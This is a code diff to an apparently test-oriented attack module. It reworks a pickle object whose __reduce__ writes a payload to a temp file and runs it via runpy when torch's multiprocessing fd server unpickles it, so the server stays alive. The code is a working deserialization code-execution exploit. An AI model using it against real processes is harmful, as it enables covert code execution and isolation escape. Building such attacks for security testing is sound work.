@@ -7,6 +7,7 @@ there. (Frames forged on the channel socket itself are channel_garbage's attack.
 import glob as _glob
 import multiprocessing as _mp
 import os as _os
+import runpy as _runpy
 import tempfile as _tempfile
 import time as _time
 from multiprocessing.connection import Client as _Client
@@ -18,10 +19,14 @@ _PAYLOAD = ("import sys\n"
 
 
 class _RunsInTheReader:
-    """Unpickling this evaluates the payload; the [None, 0] keeps torch's fd server loop alive."""
+    """Unpickling this runs the payload file in the unpickling process (runpy.run_path); its result,
+    a dict, does not unpack to torch's (key, pid), so torch's fd server logs it and keeps serving."""
 
     def __reduce__(self):
-        return eval, (f"[exec({_PAYLOAD!r}), 0]",)
+        path = _os.path.join(_tempfile.gettempdir(), "gallery-payload.py")
+        with open(path, "w") as handle:
+            handle.write(_PAYLOAD)
+        return _runpy.run_path, (path,)
 
 
 def _listeners():
